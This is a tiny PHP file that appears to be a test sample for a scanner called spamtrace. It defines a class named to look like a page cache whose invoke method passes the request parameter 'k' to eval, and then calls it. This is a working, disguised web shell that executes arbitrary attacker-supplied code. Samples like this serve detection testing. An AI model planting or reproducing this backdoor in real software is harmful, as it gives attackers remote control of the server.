<?php
// spamtrace test sample (written for the tests, never run): a class whose __invoke evaluates
// a property that the constructor takes from the request
class Page_Cache {
    private $v;
    public function __construct($v) { $this->v = $v; }
    public function __invoke() { return @eval($this->v); }
}
$c = new Page_Cache($_REQUEST['k']);
$c();
